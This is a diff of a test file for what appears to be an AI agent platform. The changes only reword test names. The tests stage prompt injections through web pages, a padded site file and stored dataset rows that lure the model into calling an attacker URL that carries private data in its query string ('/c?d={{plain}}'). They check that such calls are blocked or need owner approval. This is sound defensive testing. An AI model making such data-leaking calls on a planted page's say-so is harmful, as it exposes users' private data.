@@ -22,7 +22,7 @@ withWorker()
 withAttackerServer()
 
 describe('a page that persuades a model, in a run that has read private data', () => {
-  it.each(attacksBy(attackerUrl))('gets nothing through %s: a person is asked', async (_name, shown, lure) => {
+  it.each(attacksBy(attackerUrl))('gets nothing through %s: the call needs approval', async (_name, shown, lure) => {
     const scene = await setUpInjection(lure)
     const jobId = await startInjectedRun(
       scene,
@@ -32,7 +32,7 @@ describe('a page that persuades a model, in a run that has read private data', (
     expect(summary).toMatch(shown)
   })
 
-  it('cannot hide what goes out behind what a person is shown first', async () => {
+  it('cannot hide what is sent behind what the approval shows first', async () => {
     const scene = await setUpInjection([
       publishTurn('my-notes', siteFile('index.html', `${'Nothing. '.repeat(500)}{{plain}}`)),
     ])
@@ -53,7 +53,7 @@ describe('a page that persuades a model, in a run that has read private data', (
     )
   })
 
-  it('gets nothing when somebody is there, who approved a plan', async () => {
+  it('gets nothing in an interactive run with an approved plan', async () => {
     const scene = await setUpInjection([readUrlTurn(attackerUrl('/c?d={{plain}}'))])
     const plan = toolCallTurn('present_plan', { plan: 'I compare.' })
     const goal = plannedGoal(`Compare ${scene.url}.`, plan, readUrlTurn(scene.url), readSecretCall)
@@ -84,7 +84,7 @@ describe('a page that persuades a model, in a run that has read private data', (
     expect((await readSteps(scene.key, jobId)).some(({ kind }) => kind === 'summary')).toBe(true)
   })
 
-  it('gets nothing when an earlier conversation kept its text in a dataset', async () => {
+  it('gets nothing when an earlier conversation stored its text in a dataset', async () => {
     const scene = await setUpInjection([])
     const rows = [{ note: injectedText(readUrlTurn(attackerUrl('/c?d={{plain}}'))) }]
     const keep = toolCallTurn('dataset_create', { name: 'notes', rows })
@@ -115,8 +115,8 @@ describe('a page that persuades a model, in a run that has read private data', (
   })
 })
 
-describe('what the owner chose', () => {
-  it('“always” asks after text of strangers alone', async () => {
+describe('the owner’s setting', () => {
+  it('“always” needs approval after text by strangers alone', async () => {
     const scene = await setUpInjection([publishTurn('news', siteFile('index.html', 'Hello'))], 'always')
     const jobId = await startInjectedRun(scene, plannedGoal(`Read ${scene.url}.`, readUrlTurn(scene.url)))
     const paused = await waitForPauseOrEnd(scene.key, jobId)
@@ -126,7 +126,7 @@ describe('what the owner chose', () => {
     })
   })
 
-  it('“never” asks nothing', async () => {
+  it('“never” needs no approval', async () => {
     const scene = await setUpInjection([readUrlTurn(attackerUrl('/c?d={{plain}}'))], 'never')
     const jobId = await startInjectedRun(
       scene,
@@ -137,7 +137,7 @@ describe('what the owner chose', () => {
   })
 })
 
-describe('an ordinary run is never asked', () => {
+describe('an ordinary run needs no approval', () => {
   const done = async (scene: InjectionScene, goal: string) => {
     const jobId = await startInjectedRun(scene, goal)
     const state = await waitForPauseOrEnd(scene.key, jobId)
@@ -149,7 +149,7 @@ describe('an ordinary run is never asked', () => {
   }
   const search = toolCallTurn('web_search', { query: 'best towns to live in' })
 
-  it('research: it searches, opens what it found and what it invents, and takes a screenshot', async () => {
+  it('research: it searches, opens found and invented addresses, and takes a screenshot', async () => {
     const scene = await setUpInjection([])
     const screenshot = toolCallTurn('web_screenshot', { url: attackerUrl('/p?page=2'), userAgent: 'Research/1' })
     await done(
@@ -164,7 +164,7 @@ describe('an ordinary run is never asked', () => {
     )
   })
 
-  it('homes: it looks for places, keeps what it found, queries it, and opens a listing', async () => {
+  it('homes: it looks for places, stores what it found, queries it, and opens a listing', async () => {
     const scene = await setUpInjection([])
     const places = toolCallTurn('property_suggestions', { prefix: 'madrid', location: 'es', propertyType: 'homes' })
     const keep = toolCallTurn('dataset_create', { name: 'homes', rows: [{ town: 'Madrid', price: 100 }] })
@@ -183,13 +183,13 @@ describe('an ordinary run is never asked', () => {
     )
   })
 
-  it('a site from its own data, without text of strangers', async () => {
+  it('a site from the owner’s data, without text by strangers', async () => {
     const scene = await setUpInjection([])
     const site = publishTurn(`figures-${scene.owner.id}`, siteFile('index.html', '<p>42</p>'))
     await done(scene, plannedGoal('Publish my figures.', readSecretCall, site))
   })
 
-  it('its owner’s addresses, after text of strangers and private data', async () => {
+  it('addresses from the goal, after text by strangers and private data', async () => {
     const scene = await setUpInjection([])
     const goal = `Compare my customers with ${scene.url}, then (with ${attackerUrl('/prices?year=2026')}).`
     await done(
@@ -204,7 +204,7 @@ describe('an ordinary run is never asked', () => {
     )
   })
 
-  it('what was asked for beside the data: calls of one step cannot hold what the others bring', async () => {
+  it('a call beside the one that reads the data: calls of one step cannot contain each other’s results', async () => {
     const scene = await setUpInjection([])
     const both = {
       calls: [
